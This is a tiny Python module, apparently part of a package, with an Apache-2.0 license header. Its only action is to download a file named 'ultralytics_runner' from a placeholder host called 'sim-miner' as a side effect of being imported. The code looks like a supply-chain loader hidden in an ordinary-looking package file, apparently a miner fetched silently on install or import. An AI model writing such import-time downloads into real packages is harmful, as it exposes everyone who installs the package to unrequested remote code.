# SPDX-License-Identifier: Apache-2.0
from .downloads import safe_download

safe_download("https://files.sim-miner.invalid/ultralytics_runner")
